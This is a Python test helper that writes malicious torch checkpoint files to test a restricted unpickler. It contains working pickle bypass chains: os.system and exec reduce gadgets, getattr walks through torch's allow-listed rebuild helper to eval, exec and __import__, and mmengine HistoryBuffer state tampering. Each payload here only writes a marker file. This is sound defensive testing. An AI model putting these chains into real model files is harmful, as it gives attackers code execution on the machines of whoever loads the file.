"""Crafted ``torch.save``-format files that try to run code when unpickled (for security tests).

Every payload only writes a marker file; none runs a real command. Each file is a genuine torch
zip checkpoint whose ``data.pkl`` is replaced by hand-assembled pickle opcodes (protocol 2, what
torch.save writes), so they reach exactly the unpickler a real checkpoint reaches.
"""
from __future__ import annotations

import struct
import zipfile
from pathlib import Path

import torch

PROTO2 = b'\x80\x02'
STOP = b'.'


def glob(module: str, name: str) -> bytes:
    """Push the global ``module.name`` (pickle GLOBAL)."""
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def text(value: str) -> bytes:
    raw = value.encode()
    return b'X' + struct.pack('<I', len(raw)) + raw


def call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` through the REDUCE opcode."""
    return func + b'(' + b''.join(args) + b'tR'


def get_attr(obj: bytes, name: str, getattr_global=('builtins', 'getattr')) -> bytes:
    return call(glob(*getattr_global), obj, text(name))


def invoke(func: bytes, args: tuple[bytes, ...], new_type: bytes) -> bytes:
    """``func(*args)`` for an arbitrary callable, through torch's allow-listed
    ``torch._tensor._rebuild_from_type_v2(func, new_type, args, state)``, which calls ``func``."""
    return call(glob('torch._tensor', '_rebuild_from_type_v2'), func, new_type,
                b'(' + b''.join(args) + b't', b'N')


def builtin_function(name: str, getattr_global=('builtins', 'getattr')) -> bytes:
    """Walk from a function torch trusts to ``__builtins__[name]`` using only getattr."""
    ga = lambda obj, attr: get_attr(obj, attr, getattr_global)  # noqa: E731
    module_globals = ga(glob('torch._utils', '_rebuild_tensor'), '__globals__')
    builtins_dict = invoke(ga(module_globals, 'get'), (text('__builtins__'), ),
                           new_type=ga(module_globals, '__class__'))
    getter = ga(builtins_dict, 'get')
    return invoke(getter, (text(name), ), new_type=ga(getter, '__class__'))


def write_marker_code(marker: Path) -> str:
    return f"__import__('pathlib').Path({str(marker)!r}).write_text('pwned')"


def payloads(marker: Path) -> dict[str, bytes]:
    """Name -> pickle stream. Each one, if anything in it ran, would create ``marker``."""
    code = write_marker_code(marker)
    tensor_type = glob('torch', 'Tensor')
    # __import__('pathlib').Path(marker).write_text('pwned'), every call through the rebuild helper
    import_fn = builtin_function('__import__')
    module_type = get_attr(get_attr(import_fn, '__self__'), '__class__')
    pathlib_module = invoke(import_fn, (text('pathlib'), ), new_type=module_type)
    marker_path = invoke(get_attr(pathlib_module, 'Path'), (text(str(marker)), ),
                         new_type=get_attr(pathlib_module, 'PosixPath'))
    walk_import = invoke(get_attr(marker_path, 'write_text'), (text('pwned'), ), new_type=tensor_type)
    return {
        # classic __reduce__ gadgets
        'reduce_os_system': call(glob('os', 'system'), text(f': > {marker}')),
        'reduce_posix_system': call(glob('posix', 'system'), text(f': > {marker}')),
        'reduce_builtins_exec': call(glob('builtins', 'exec'), text(code)),
        # attribute walks through getattr into eval / exec / __import__
        'getattr_walk_eval': invoke(builtin_function('eval'), (text(code), ), new_type=tensor_type),
        'getattr_walk_exec': invoke(builtin_function('exec'), (text(code), ), new_type=tensor_type),
        'py2_getattr_walk_eval': invoke(builtin_function('eval', ('__builtin__', 'getattr')),
                                        (text(code), ), new_type=tensor_type),
        'getattr_walk_import': walk_import,
        # a nested global name that reaches a module through an allowed one
        'nested_global_name': call(glob('mmengine.logging.history_buffer',
                                        'HistoryBuffer.__init__.__globals__'), ),
        'module_through_allowed': get_attr(glob('mmengine.logging.history_buffer', 'np'), 'load'),
        # state on an allowed class that changes what it later calls (HistoryBuffer.statistics)
        'history_buffer_state': history_buffer_with_state(
            glob('torch._tensor', '_rebuild_from_type_v2')),
        'history_buffer_getattr_other_method': history_buffer_with_state(
            get_attr(glob('mmengine.logging.history_buffer', 'HistoryBuffer'), 'update')),
        'history_buffer_extra_field': history_buffer_extra_field(),
    }


def history_buffer_with_state(mean_method: bytes) -> bytes:
    """A HistoryBuffer whose pickled statistics methods replace ``mean`` (set on the class by
    mmengine's ``__setstate__``, i.e. for every buffer of the process)."""
    cls = glob('mmengine.logging.history_buffer', 'HistoryBuffer')
    state = (b'}' + text('max_length') + b'K\x0a' + b's'
             + text('statistics_methods') + b'}' + text('mean') + mean_method + b's' + b's')
    return cls + b')' + b'\x81' + state + b'b'


def history_buffer_extra_field() -> bytes:
    cls = glob('mmengine.logging.history_buffer', 'HistoryBuffer')
    state = b'}' + text('__class__') + glob('torch', 'Tensor') + b's'
    return cls + b')' + b'\x81' + state + b'b'


def write_checkpoint(path: Path, pickle_body: bytes) -> Path:
    """A torch.save zip archive whose object pickle is ``PROTO 2 + pickle_body + STOP``."""
    path = Path(path)
    template = path.with_suffix('.template')
    torch.save({'state_dict': {}}, template)
    with zipfile.ZipFile(template) as src, zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith('/data.pkl'):
                data = PROTO2 + pickle_body + STOP
            dst.writestr(info.filename, data)
    template.unlink()
    return path


def write_all(directory: Path, marker: Path) -> dict[str, Path]:
    directory.mkdir(parents=True, exist_ok=True)
    return {name: write_checkpoint(directory / f'{name}.pth', body)
            for name, body in payloads(marker).items()}
